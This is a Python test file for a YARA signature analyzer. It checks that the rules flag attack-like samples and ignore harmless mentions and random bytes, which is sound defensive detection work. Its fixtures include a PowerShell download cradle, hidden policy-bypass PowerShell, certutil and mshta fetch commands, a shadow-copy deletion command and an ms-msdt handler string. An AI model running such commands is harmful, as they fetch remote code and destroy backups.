"""Our YARA rules."""

import random

import pytest

from cloud.analyzers.signatures import SignatureAnalyzer, rule_texts
from lab.traffic.samples.programs import eicar_text, windows_program
from tests.unit.cloud.analyzers.looking import found_by, signs

_ANALYZER = SignatureAnalyzer()
_ENCODED = b"QUFB" * 20


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (eicar_text(), {"signature.eicar"}),
        (eicar_text() + b"\r\n", {"signature.eicar"}),
        (b"powershell.exe -NoProfile -enc " + _ENCODED, {"signature.powershell-encoded"}),
        (("powershell -e " + _ENCODED.decode()).encode("utf-16-le"), {"signature.powershell-encoded"}),
        (b"IEX (New-Object Net.WebClient).DownloadString('https://a.invalid')", {"signature.download-cradle"}),
        (b"powershell -w hidden -ep bypass -f x.ps1", {"signature.powershell-hidden"}),
        (b"certutil.exe -urlcache -f https://a.invalid/x x", {"signature.lolbin"}),
        (b"mshta https://a.invalid/x.hta", {"signature.lolbin"}),
        (b"vssadmin delete shadows /all /quiet", {"signature.deletes-backups"}),
        (b'href="ms-msdt:/id x"', {"signature.protocol-handler"}),
        (b"#@~^AAAAAA==abc==^#~@", {"signature.encoded-script"}),
        (windows_program() + b"AU3!EA06", {"signature.autoit"}),
        (windows_program() + b"ReflectiveLoader", {"signature.reflective-loader"}),
        (b"{\\rtf1{\\*\\objdata 0105 5061636b61676500}}", {"signature.rtf-package"}),
        (b"Please use PowerShell to list your files.", set()),
        (b"The certutil tool is part of Windows.", set()),
        (b"An essay on the word ReflectiveLoader.", set()),
        (windows_program(), set()),
    ],
)
def test_a_rule_matches_its_attack_and_not_its_mention(content: bytes, expected: set[str]) -> None:
    assert signs(found_by(_ANALYZER, content)) == expected


@pytest.mark.parametrize("size", [10_000, 900_000])
def test_chance_bytes_match_no_rule(size: int) -> None:
    """What is compressed or encrypted looks like chance; a rule that fires on it would quarantine every tenth picture."""
    chance = random.Random(size)
    matched = {sign for _ in range(40) for sign in signs(found_by(_ANALYZER, chance.randbytes(size)))}
    assert matched == set()


def test_the_rules_themselves_hold_no_test_string() -> None:
    """Or scanners would take our own package for what it finds."""
    assert all(eicar_text().decode() not in text for _, text in rule_texts())
